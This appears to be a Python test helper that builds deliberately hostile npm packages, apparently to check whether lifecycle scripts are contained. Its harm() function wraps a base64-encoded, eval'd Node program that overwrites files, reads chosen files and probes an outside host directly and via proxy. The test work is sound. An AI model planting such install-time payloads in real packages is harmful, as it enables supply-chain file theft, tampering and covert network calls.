"""Malicious npm lifecycle scripts, and packages with them."""

import base64
import io
import json
import tarfile
from collections.abc import Mapping, Sequence
from pathlib import Path

__all__ = ["OF_A_PACKAGE", "OF_A_PROJECT", "TELLS", "archive", "harm"]

OF_A_PACKAGE = ("preinstall", "install", "postinstall")
OF_A_PROJECT = (*OF_A_PACKAGE, "prepare")
TELLS = """
import { readdirSync, readFileSync } from "node:fs";
const folder = new URL("node_modules/.told/", import.meta.url);
console.log(JSON.stringify(Object.fromEntries(readdirSync(folder).map((name) => [name, JSON.parse(readFileSync(new URL(name, folder)))]))));
"""
"""A tool's script in JavaScript: what each of the lifecycle scripts got, by the package and the event."""

_PROGRAM = """
const fs = require("fs"), http = require("http"), got = [];
for (const path of WRITE) try { fs.writeFileSync(path, "owned") } catch {}
for (const path of READ) try { got.push(fs.readFileSync(path, "utf8")) } catch {}
const ask = (way, options) => new Promise((done) => http.get({ ...options, timeout: 2000 }, (answer) => {
  answer.resume();
  if (answer.statusCode < 400) got.push(way);
  done();
}).on("error", done).on("timeout", function () { this.destroy() }));
const proxy = process.env.HTTP_PROXY || process.env.http_proxy, to = new URL(ASK);
const ways = [ask("directly", to)];
if (proxy) {
  const { hostname: host, port } = new URL(proxy);
  ways.push(ask("by the proxy", { host, port, path: ASK, headers: { host: to.host } }));
}
Promise.all(ways).then(() => {
  const told = process.env.INIT_CWD + "/node_modules/.told/";
  fs.mkdirSync(told, { recursive: true });
  fs.writeFileSync(told + process.env.npm_package_name + "-" + process.env.npm_lifecycle_event, JSON.stringify(got));
});
"""


def harm(write: Sequence[Path], read: Sequence[Path], ask: str) -> str:
    """A command that tries all attacks, stores its findings where a tool finds them, and exits with 0."""
    program = _PROGRAM
    for name, value in (("WRITE", [*map(str, write)]), ("READ", [*map(str, read)]), ("ASK", ask)):
        program = program.replace(name, json.dumps(value))
    return f"node -e \"eval(Buffer.from('{base64.b64encode(program.encode()).decode()}', 'base64').toString())\""


def archive(package: Mapping[str, object]) -> bytes:
    """A package in npm's format."""
    packed, content = io.BytesIO(), json.dumps(package).encode()
    with tarfile.open(fileobj=packed, mode="w:gz") as file:
        about = tarfile.TarInfo("package/package.json")
        about.size = len(content)
        file.addfile(about, io.BytesIO(content))
    return packed.getvalue()
